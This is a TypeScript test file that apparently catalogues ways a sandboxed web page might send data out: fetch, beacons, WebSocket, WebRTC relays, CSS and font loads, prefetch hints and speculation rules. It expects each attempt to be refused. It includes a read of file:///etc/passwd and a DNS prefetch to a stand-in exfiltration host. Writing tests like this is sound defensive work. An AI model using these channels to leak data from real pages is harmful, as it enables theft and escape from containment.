import type { Attempts } from './attempt'

/** Sending something out, or bringing something in. */
export const networkAttempts: Attempts = {
  fetch: ({ http }) => window.attack.refused(() => fetch(http)),
  'fetch without asking for an answer': ({ http }) =>
    window.attack.refused(() => fetch(http, { mode: 'no-cors', method: 'POST', body: 'all', keepalive: true })),
  'fetch of a file': () => window.attack.refused(() => fetch('file:///etc/passwd')),
  XMLHttpRequest: ({ http }) =>
    window.attack.refused(
      () =>
        new Promise((resolve, reject) => {
          const request = new XMLHttpRequest()
          request.onload = () => resolve(request.status)
          request.onerror = () => reject(new Error('network error'))
          request.open('GET', http)
          request.send()
        }),
    ),
  WebSocket: ({ ws }) =>
    window.attack.refused(
      () =>
        new Promise((resolve, reject) => {
          const socket = new WebSocket(ws)
          socket.onopen = () => resolve('open')
          socket.onerror = () => reject(new Error('refused'))
        }),
    ),
  EventSource: ({ http }) =>
    window.attack.refused(
      () =>
        new Promise((resolve, reject) => {
          const source = new EventSource(http)
          source.onopen = () => resolve('open')
          source.onerror = () => {
            source.close()
            reject(new Error('refused'))
          }
        }),
    ),
  WebTransport: ({ http }) =>
    window.attack.refused(() => new WebTransport(http.replace('http:', 'https:')).ready.then(() => 'open')),
  // Says that it was queued whether or not the policy lets it out: the server's count and the violation tell.
  'a beacon': ({ http }) => window.attack.refused(() => void navigator.sendBeacon(http, 'all')),
  'WebRTC asking who it is': ({ udpPort }) =>
    window.attack.refused(() => window.attack.callPeer({ urls: `stun:127.0.0.1:${udpPort}` })),
  'WebRTC through a relay': ({ http }) =>
    window.attack.refused(() => {
      const urls = `turn:${http.slice('http://'.length)}?transport=tcp`
      return window.attack.callPeer({ urls, username: 'all', credential: 'all' })
    }),
  'a picture': ({ http }) => window.attack.element('img', { src: `${http}/picture.png?all` }),
  'a style sheet': ({ http }) => window.attack.element('link', { rel: 'stylesheet', href: `${http}/style.css` }),
  'a style in the page': ({ http }) => window.attack.element('style', {}, `@import url(${http}/style.css)`),
  'a style of an element': ({ http }) =>
    window.attack.element('div', { style: `background: url(${http}/picture.png)` }),
  'a style set by script': ({ http }) =>
    window.attack.refused(async () => {
      const box = document.createElement('div')
      box.style.backgroundImage = `url(${http}/picture.png)`
      document.body.append(box)
      await new Promise(resolve => setTimeout(resolve, 150))
      box.remove()
    }),
  'a font': ({ http }) => window.attack.refused(() => new FontFace('thief', `url(${http}/font.woff2)`).load()),
  'a film': ({ http }) => window.attack.element('video', { src: `${http}/film.mp4` }),
  'a sound': ({ http }) => window.attack.element('audio', { src: `${http}/sound.mp3` }),
  preloading: ({ http }) => window.attack.element('link', { rel: 'preload', as: 'fetch', href: `${http}/all` }),
  prefetching: ({ http }) => window.attack.element('link', { rel: 'prefetch', href: `${http}/all` }),
  'connecting ahead': ({ http }) => window.attack.element('link', { rel: 'preconnect', href: http }),
  'asking for a name ahead': () =>
    window.attack.element('link', { rel: 'dns-prefetch', href: 'https://all-our-data.example.com' }),
  'a web app manifest': ({ http }) => window.attack.element('link', { rel: 'manifest', href: `${http}/manifest` }),
  'rules for pages to load ahead': ({ http }) =>
    window.attack.element('script', { type: 'speculationrules' }, `{"prefetch":[{"urls":["${http}/all"]}]}`),
}
